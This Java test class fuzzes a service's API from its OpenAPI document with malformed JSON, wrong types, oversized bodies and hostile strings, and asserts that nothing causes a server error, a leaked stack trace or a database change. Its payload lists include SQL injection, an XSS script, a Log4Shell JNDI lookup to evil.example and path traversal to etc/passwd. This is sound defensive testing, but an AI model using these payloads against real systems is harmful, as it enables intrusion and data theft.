package fr.cnfs.testkit;

import static io.restassured.RestAssured.given;

import java.math.BigDecimal;
import java.math.BigInteger;
import java.util.ArrayList;
import java.util.Iterator;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.UUID;
import java.util.regex.Pattern;
import java.util.regex.PatternSyntaxException;

import org.junit.jupiter.api.Assertions;

import com.fasterxml.jackson.core.JsonProcessingException;
import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;

import io.restassured.config.EncoderConfig;
import io.restassured.http.ContentType;
import io.restassured.config.RestAssuredConfig;
import io.restassured.response.Response;
import io.restassured.specification.RequestSpecification;

/**
 * Invalid requests generated from the service's OpenAPI document: for every operation that takes a body or
 * parameters, malformed and wrongly typed JSON, missing required fields, unknown enum values, out-of-range numbers,
 * invalid dates, ids and territorial codes, very long strings, control characters, Unicode and SQL-looking text,
 * oversized bodies and wrong media types.
 * <p>
 * A value the schema declares invalid is sent on a real object with its owner's token and must get a 4xx problem.
 * A value the schema may accept (Unicode, SQL-looking text, a negative number without a declared minimum) is sent
 * where the request is refused anyway, on an object that does not exist or without a required field, so that it is
 * parsed and validated but can change nothing; on a read it may succeed. No answer may be a 5xx or leak a stack
 * trace, a class name or SQL; the caller compares the row counts of every table before and after.
 */
public final class HostileInput {

    private static final ObjectMapper JSON = new ObjectMapper();
    private static final Set<String> WRITES = Set.of("POST", "PUT", "PATCH", "DELETE");
    private static final List<String> LEAKS = List.of("Exception", "\tat ", "java.", "jakarta.", "org.hibernate",
            "org.postgresql", "com.fasterxml", "io.quarkus", "io.vertx", "fr.cnfs.plumbing", "SQLState", "syntax error at",
            "PSQL", "duplicate key", "violates", "relation \"", "Caused by");
    private static final String LONG = "x".repeat(100_000);
    private static final List<String> MALFORMED = List.of("{", "{\"a\":", "[1, 2", "nul", "{\"a\": 1,}", "{'a': 1}",
            "{\"a\": \"unterminated}", "{\"a\": 1}}", "\u0000", "{\"a\": \"raw \u0001 control\"}", "{\"a\": 0x1F}",
            "{\"a\": NaN}", "[]", "\"text\"", "42", "true", "<xml/>", "{\"a\":" + "[".repeat(5_000));
    /** Text the schema may well accept: it must never break anything either. */
    private static final List<String> ODD_TEXT = List.of("' OR '1'='1' --", "'; DROP TABLE outbox_event; --",
            "1 UNION SELECT password FROM pg_shadow", "Ωμέγα ünïcödé 漢字 🙂 \u202Eevil", "\u0000\u0007\u001b[31m\t\r\n",
            "<script>alert(1)</script>", "${jndi:ldap://evil.example/a}", "%s%n%x", "   ", "");

    private final ApiDocument document;
    private final List<String> failures = new ArrayList<>();
    private final List<Attack> attacks = new ArrayList<>();
    private int requests;
    private int operations;

    public HostileInput(ApiDocument document) {
        this.document = document;
    }

    public int requestsSent() {
        return requests;
    }

    public int operationsCovered() {
        return operations;
    }

    /**
     * Builds, for every operation of the document that takes a body or parameters, a valid request on a real object
     * with its owner's token, from the access matrix's fixtures. Nothing is sent yet, so the caller can count rows
     * between {@link #prepare} and {@link #send}.
     */
    public void prepare(AccessMatrix matrix) {
        Map<String, AccessRow> rows = new LinkedHashMap<>();
        matrix.rows().forEach(row -> rows.put(row.key(), row));
        for (ApiDocument.Operation operation : document.operations()) {
            if (!operation.takesBody() && operation.parameters().stream()
                    .noneMatch(p -> Set.of("path", "query").contains(p.path("in").asText()))) {
                continue;
            }
            AccessRow row = rows.get(operation.key());
            Assertions.assertNotNull(row, "no access row for " + operation.key());
            try {
                attacks.add(new Attack(operation, row.fixture().prepare(row.isOpen() ? null : row.primaryRole())));
            } catch (RuntimeException | AssertionError e) {
                failures.add(operation.key() + ": fixture failed: " + e);
            }
        }
    }

    /** Sends the generated requests of every prepared operation. */
    public void send() {
        for (Attack attack : attacks) {
            operations++;
            attack.run();
        }
    }

    /**
     * The whole proof for one service: prepares the targets, waits for the database to settle, sends every request,
     * and fails on any bad answer or on any table whose row count changed.
     */
    public static void assertHarmless(String service, AccessMatrix matrix, javax.sql.DataSource dataSource) {
        HostileInput hostile = new HostileInput(ApiDocument.served());
        hostile.prepare(matrix);
        Map<String, Long> before = TableCounts.settled(dataSource, java.time.Duration.ofSeconds(30));
        long started = System.nanoTime();
        hostile.send();
        Map<String, Long> after = TableCounts.settled(dataSource, java.time.Duration.ofSeconds(10));
        System.out.printf("[hostile-input] %s: %d tables compared, %d s of requests%n", service, before.size(),
                (System.nanoTime() - started) / 1_000_000_000L);
        before.forEach((table, count) -> {
            if (!count.equals(after.get(table))) {
                hostile.fail("table " + table + " had " + count + " rows before the hostile requests, " + after.get(table)
                        + " after");
            }
        });
        hostile.assertNoFailure(service);
    }

    /** Records a failure found by the caller (a changed row count). */
    public void fail(String failure) {
        failures.add(failure);
    }

    public void assertNoFailure(String service) {
        System.out.printf("[hostile-input] %s: %d requests over %d operations%n", service, requests, operations);
        Assertions.assertTrue(failures.isEmpty(), service + " hostile input, " + failures.size() + " failures:\n"
                + String.join("\n", failures.subList(0, Math.min(80, failures.size()))));
    }

    /** The requests of one operation. */
    private final class Attack {

        private final ApiDocument.Operation operation;
        private final Call valid;
        private final Map<String, Object> validBody;
        private final JsonNode bodySchema;

        Attack(ApiDocument.Operation operation, Call valid) {
            this.operation = operation;
            this.valid = valid;
            this.validBody = valid.body() == null ? null : JSON.convertValue(valid.body(), Map.class);
            this.bodySchema = operation.takesBody() ? document.resolve(operation.bodySchema()) : null;
        }

        void run() {
            if (operation.takesBody()) {
                attackBody();
            }
            for (JsonNode parameter : operation.parameters()) {
                String in = parameter.path("in").asText();
                if (in.equals("query")) {
                    attackQuery(parameter);
                } else if (in.equals("path")) {
                    attackPath(parameter.path("name").asText());
                }
            }
        }

        // ---- bodies

        private void attackBody() {
            for (String text : MALFORMED) {
                sendRaw(valid.path(), "application/json", text, Expect.REFUSED, "malformed JSON " + abbreviate(text));
            }
            String oversized = "{\"a\": \"" + "x".repeat(1_100_000) + "\"}";
            sendRaw(valid.path(), "application/json", oversized, Expect.TOO_LARGE, "a body over the size limit");
            String json = validBody == null ? "{}" : write(validBody);
            // A command whose body is optional accepts any media type, so that it can be posted without one; it is
            // tried on an object that does not exist.
            boolean optional = !operation.node().path("requestBody").path("required").asBoolean(false);
            String target = optional && hasPathParameters() ? onNothing() : valid.path();
            Expect expect = optional ? Expect.NO_SERVER_ERROR : Expect.UNSUPPORTED;
            if (!optional || hasPathParameters()) {
                send(target, valid.query(), json, "text/plain", expect, "text/plain");
                send(target, valid.query(), "<a>1</a>", "application/xml", expect, "application/xml");
                send(target, valid.query(), "a=1", "application/x-www-form-urlencoded", expect, "a form");
                send(target, valid.query(), "--x--", "multipart/form-data; boundary=x", expect, "multipart");
            }
            if (validBody != null) {
                attackProperties(List.of(), bodySchema);
            }
        }

        private void attackProperties(List<String> at, JsonNode schema) {
            Set<String> required = new java.util.HashSet<>();
            schema.path("required").forEach(r -> required.add(r.asText()));
            Iterator<Map.Entry<String, JsonNode>> properties = schema.path("properties").fields();
            while (properties.hasNext()) {
                var property = properties.next();
                List<String> path = new ArrayList<>(at);
                path.add(property.getKey());
                JsonNode propertySchema = document.resolve(property.getValue());
                String type = document.typeOf(propertySchema);
                String where = String.join(".", path);
                if (required.contains(property.getKey())) {
                    sendBody(without(path), Expect.REFUSED, "without required " + where);
                    sendBody(with(path, null), Expect.REFUSED, "null required " + where);
                }
                for (Object wrong : wrongTypes(type)) {
                    sendBody(with(path, wrong), Expect.REFUSED, where + " of the wrong type " + abbreviate(String.valueOf(wrong)));
                }
                for (var value : values(property.getKey(), propertySchema, type, true)) {
                    if (value.invalid()) {
                        sendBody(with(path, value.value()), Expect.REFUSED, where + " = " + value.describe());
                    } else {
                        sendHarmless(path, value, where);
                    }
                }
                if (type.equals("object") && (at.isEmpty())) {
                    attackProperties(path, propertySchema);
                }
            }
        }

        /** A value the schema may accept: sent where the request fails anyway. */
        private void sendHarmless(List<String> path, Value value, String where) {
            if (hasPathParameters()) {
                sendBody(onNothing(), with(path, value.value()), Expect.NO_SERVER_ERROR, where + " = " + value.describe()
                        + " on an unknown object");
                return;
            }
            if (valid.stranger() != null && valid.strangerStatus() >= 400) {
                // Parsed and validated, then refused: the stranger may not create on another's behalf.
                send(valid.path(), valid.query(), write(with(path, value.value())), "application/json", valid.stranger(),
                        Expect.REFUSED, where + " = " + value.describe() + " by a stranger");
                return;
            }
            String missing = firstRequiredOtherThan(path.get(0));
            if (missing != null) {
                Map<String, Object> body = with(path, value.value());
                body.remove(missing);
                sendBody(valid.path(), body, Expect.REFUSED, where + " = " + value.describe() + " without " + missing);
            } else if (!WRITES.contains(operation.method())) {
                sendBody(with(path, value.value()), Expect.NO_SERVER_ERROR, where + " = " + value.describe());
            }
        }

        /** A required text or id (a primitive may be "required" in the schema yet default when absent). */
        private String firstRequiredOtherThan(String property) {
            for (JsonNode required : bodySchema.path("required")) {
                String name = required.asText();
                JsonNode schema = bodySchema.path("properties").path(name);
                if (!name.equals(property) && validBody.containsKey(name)
                        && Set.of("string", "array", "object").contains(document.typeOf(schema))) {
                    return name;
                }
            }
            return null;
        }

        // ---- query and path parameters

        private void attackQuery(JsonNode parameter) {
            String name = parameter.path("name").asText();
            JsonNode schema = document.resolve(parameter.path("schema"));
            String type = document.typeOf(schema);
            for (Value value : values(name, schema, type, false)) {
                if (value.value() instanceof String text && text.length() > 3_000) {
                    // The HTTP layer bounds the request line; a long value travels in bodies.
                    continue;
                }
                if (value.value() == null || value.value() instanceof Map || value.value() instanceof List) {
                    continue;
                }
                Map<String, Object> query = new LinkedHashMap<>(valid.query());
                query.put(name, String.valueOf(value.value()));
                boolean refused = value.invalid();
                if (!refused && WRITES.contains(operation.method()) && !hasPathParameters()) {
                    continue;
                }
                String path = refused ? valid.path() : hasPathParameters() ? onNothing() : valid.path();
                send(path, query, null, null, refused ? Expect.REFUSED : Expect.NO_SERVER_ERROR,
                        "query " + name + " = " + value.describe());
            }
        }

        private void attackPath(String name) {
            for (String bad : List.of("not-a-uuid", "' OR '1'='1", "1;DROP TABLE x", "%00", "..%2F..%2Fetc%2Fpasswd",
                    "Ωμέγα🙂", "-1", "99999999999999999999", "x".repeat(2_000))) {
                String path = replaceParameter(operation.path(), name, bad);
                send(path, valid.query(), validBody == null ? null : write(validBody),
                        validBody == null ? null : "application/json", Expect.REFUSED, "path " + name + " = " + abbreviate(bad));
            }
        }

        // ---- sending

        private boolean hasPathParameters() {
            return operation.path().contains("{");
        }

        /** The operation's path on objects that do not exist. */
        private String onNothing() {
            String path = operation.path();
            while (path.contains("{")) {
                path = path.replaceFirst("\\{[^}]+}", UUID.randomUUID().toString());
            }
            return path;
        }

        private void sendBody(Map<String, Object> body, Expect expect, String what) {
            sendBody(valid.path(), body, expect, what);
        }

        private void sendBody(String path, Map<String, Object> body, Expect expect, String what) {
            sendRaw(path, "application/json", write(body), expect, what);
        }

        private void sendRaw(String path, String contentType, String body, Expect expect, String what) {
            send(path, valid.query(), body, contentType, expect, what);
        }

        private void send(String path, Map<String, Object> query, String body, String contentType, Expect expect,
                String what) {
            send(path, query, body, contentType, valid.owner(), expect, what);
        }

        private void send(String path, Map<String, Object> query, String body, String contentType, String token,
                Expect expect, String what) {
            requests++;
            RequestSpecification request = given()
                    .config(RestAssuredConfig.config().encoderConfig(EncoderConfig.encoderConfig()
                            .appendDefaultContentCharsetToContentTypeIfUndefined(false)
                            .encodeContentTypeAs("multipart/form-data", ContentType.TEXT)))
                    .urlEncodingEnabled(!path.contains("%")).redirects().follow(false);
            if (token != null) {
                request = request.auth().oauth2(token);
            }
            request = request.headers(valid.headers()).queryParams(query);
            if (body != null) {
                request = request.contentType(contentType).body(body);
            }
            Response response;
            try {
                response = request.when().request(operation.method(), path).then().extract().response();
            } catch (RuntimeException e) {
                failures.add(operation.key() + " with " + what + ": the connection failed: " + e);
                return;
            }
            judge(response, expect, what);
        }

        private void judge(Response response, Expect expect, String what) {
            int status = response.statusCode();
            String text = response.asString();
            String label = operation.key() + " with " + what + ": ";
            if (status >= 500) {
                failures.add(label + status + " " + abbreviate(text));
                return;
            }
            for (String leak : LEAKS) {
                if (text.contains(leak)) {
                    failures.add(label + "the answer leaks '" + leak + "': " + abbreviate(text));
                }
            }
            boolean problem = AccessMatrix.isProblem(response);
            switch (expect) {
                case REFUSED -> check(status >= 400 && status < 500 && problem, label + "expected a 4xx problem, got "
                        + status + " " + response.contentType() + " " + abbreviate(text));
                case TOO_LARGE -> check(status == 413 && problem, label + "expected 413 problem, got " + status + " "
                        + response.contentType());
                case UNSUPPORTED -> check(status == 415 && problem, label + "expected 415 problem, got " + status + " "
                        + response.contentType() + " " + abbreviate(text));
                case NO_SERVER_ERROR -> check(status < 400 || problem, label + "a " + status + " that is not a problem: "
                        + response.contentType() + " " + abbreviate(text));
            }
        }

        private void check(boolean condition, String failure) {
            if (!condition) {
                failures.add(failure);
            }
        }

        // ---- bodies as maps

        @SuppressWarnings("unchecked")
        private Map<String, Object> with(List<String> path, Object value) {
            Map<String, Object> body = JSON.convertValue(validBody, Map.class);
            Map<String, Object> parent = body;
            for (int i = 0; i < path.size() - 1; i++) {
                Object child = parent.get(path.get(i));
                if (!(child instanceof Map)) {
                    child = new LinkedHashMap<String, Object>();
                    parent.put(path.get(i), child);
                }
                parent = (Map<String, Object>) child;
            }
            parent.put(path.get(path.size() - 1), value);
            return body;
        }

        @SuppressWarnings("unchecked")
        private Map<String, Object> without(List<String> path) {
            Map<String, Object> body = JSON.convertValue(validBody, Map.class);
            Map<String, Object> parent = body;
            for (int i = 0; i < path.size() - 1 && parent != null; i++) {
                parent = parent.get(path.get(i)) instanceof Map<?, ?> child ? (Map<String, Object>) child : null;
            }
            if (parent != null) {
                parent.remove(path.get(path.size() - 1));
            }
            return body;
        }
    }

    private enum Expect {
        REFUSED, TOO_LARGE, UNSUPPORTED, NO_SERVER_ERROR
    }

    /** A generated value, and whether the schema itself rules it out. */
    private record Value(Object value, boolean invalid) {

        String describe() {
            return abbreviate(String.valueOf(value));
        }
    }

    private static List<Object> wrongTypes(String type) {
        return switch (type) {
            case "string" -> List.of(Map.of("a", 1), List.of("a", "b"));
            case "integer", "number" -> List.of("abc", Map.of("a", 1), List.of(1, 2));
            case "boolean" -> List.of("maybe", Map.of("a", 1), List.of(true));
            case "array" -> List.of(Map.of("a", 1));
            case "object" -> List.of("text", 42, List.of(1));
            default -> List.of();
        };
    }

    /**
     * Values for a property or parameter, each marked invalid when its schema excludes it, or, in a body, when it is
     * a SIRET, commune or département code that does not exist. A well-formed code as a list filter merely matches
     * nothing.
     */
    private static List<Value> values(String name, JsonNode schema, String type, boolean inBody) {
        List<Value> values = new ArrayList<>();
        String lower = name.toLowerCase(java.util.Locale.ROOT);
        if (schema.has("enum")) {
            values.add(new Value("NOT_A_" + name.toUpperCase(java.util.Locale.ROOT), true));
            values.add(new Value("' OR 1=1 --", true));
        }
        switch (type) {
            case "integer", "number" -> {
                BigDecimal minimum = schema.has("minimum") ? schema.get("minimum").decimalValue() : null;
                BigDecimal maximum = schema.has("maximum") ? schema.get("maximum").decimalValue() : null;
                for (BigDecimal candidate : List.of(BigDecimal.valueOf(-1), BigDecimal.ZERO, new BigDecimal("2147483648"),
                        new BigDecimal("1e30"), new BigDecimal("-9223372036854775809"), new BigDecimal("0.001"))) {
                    boolean outside = minimum != null && candidate.compareTo(minimum) < 0
                            || maximum != null && candidate.compareTo(maximum) > 0;
                    boolean overflow = type.equals("integer") && candidate.abs().compareTo(new BigDecimal("9.2e18")) > 0
                            && !"int64".equals(schema.path("format").asText("")) ;
                    Object json = candidate.scale() <= 0 ? candidate.toBigIntegerExact() : candidate;
                    values.add(new Value(json instanceof BigInteger big ? big : candidate, outside || overflow));
                }
            }
            case "string" -> {
                String format = schema.path("format").asText("");
                String pattern = schema.path("pattern").asText(null);
                Integer maxLength = schema.has("maxLength") ? schema.get("maxLength").asInt() : null;
                List<String> candidates = new ArrayList<>(ODD_TEXT);
                candidates.add(LONG);
                switch (format) {
                    case "date" -> candidates.addAll(List.of("2021-02-30", "31/12/2021", "2021-13-01", "0000-00-00",
                            "+1000000000-01-01", "2021-1-1", "yesterday"));
                    case "date-time" -> candidates.addAll(List.of("2021-02-30T10:00:00Z", "not a time", "2021-01-01T25:00:00Z"));
                    case "uuid" -> candidates.addAll(List.of("not-a-uuid", "00000000-0000-0000-0000-00000000000g"));
                    default -> {
                    }
                }
                if (lower.contains("siret")) {
                    candidates.addAll(List.of("12345678901234", "21690123100012", "ABCDEFGHIJKLMN", "123", "2169012310001 "));
                }
                if (lower.contains("commune")) {
                    candidates.addAll(List.of("99999", "ABCDE", "2C001", "6912", "691230"));
                }
                if (lower.contains("departement") || lower.contains("territory")) {
                    candidates.addAll(List.of("00", "999", "2C", "ZZ"));
                }
                for (String candidate : candidates) {
                    values.add(new Value(candidate, invalidString(inBody ? lower : "", format, pattern, maxLength,
                            candidate, schema.has("enum"))));
                }
            }
            default -> {
            }
        }
        return values;
    }

    private static boolean invalidString(String name, String format, String pattern, Integer maxLength, String value,
            boolean isEnum) {
        if (value.isBlank()) {
            // An empty text may stand for an absent optional value, a blank one for a blank comment.
            return false;
        }
        if (isEnum || maxLength != null && value.length() > maxLength) {
            return true;
        }
        if (pattern != null) {
            try {
                // "\\S" is how @NotBlank is documented: a search, where the other patterns are whole-value matches.
                var matcher = Pattern.compile(pattern).matcher(value);
                if (pattern.equals("\\S") ? !matcher.find() : !matcher.matches()) {
                    return true;
                }
            } catch (PatternSyntaxException e) {
                // A pattern Java cannot read says nothing here.
            }
        }
        boolean code = name.contains("siret") || name.contains("commune") || name.contains("departement")
                || name.contains("territory");
        if (code && !value.isEmpty()) {
            // No generated code is a real one: a SIRET with a wrong check digit, a commune or département that does not exist.
            return true;
        }
        return switch (format) {
            case "date" -> !isDate(value);
            case "date-time" -> true;
            case "uuid" -> !isUuid(value);
            default -> false;
        };
    }

    private static boolean isDate(String value) {
        try {
            java.time.LocalDate.parse(value);
            return true;
        } catch (java.time.format.DateTimeParseException e) {
            return false;
        }
    }

    private static boolean isUuid(String value) {
        try {
            UUID.fromString(value);
            return value.length() == 36;
        } catch (IllegalArgumentException e) {
            return false;
        }
    }

    private static String replaceParameter(String template, String name, String value) {
        String path = template.replace("{" + name + "}", value);
        while (path.contains("{")) {
            path = path.replaceFirst("\\{[^}]+}", UUID.randomUUID().toString());
        }
        return path;
    }

    private static String write(Object body) {
        try {
            return JSON.writeValueAsString(body);
        } catch (JsonProcessingException e) {
            throw new IllegalStateException(e);
        }
    }

    static String abbreviate(String text) {
        String flat = text.replaceAll("\\p{Cntrl}", "?");
        return flat.length() > 120 ? flat.substring(0, 120) + "…(" + flat.length() + " chars)" : flat;
    }
}
